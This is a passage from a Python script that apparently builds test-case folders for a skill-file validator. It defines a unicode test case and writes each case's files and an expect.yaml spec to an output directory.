case("unicode_in_valid_file", "non-ASCII, RTL, zero-width and emoji text in a valid skill", content=t,
     expect=[], no_errors=True, verbatim_questions=UNI)


def write():
    for old in OUT.iterdir():
        if old.is_dir():
            shutil.rmtree(old)
    for name, (spec, files) in CASES.items():
        d = OUT / name
        d.mkdir()
        for fname, data in files.items():
            (d / fname).write_bytes(data)
        text = yaml.safe_dump(spec, sort_keys=False, allow_unicode=True, width=100)
        (d / "expect.yaml").write_text(text, encoding="utf-8")
    print(len(CASES), "cases")


if __name__ == "__main__":
    write()
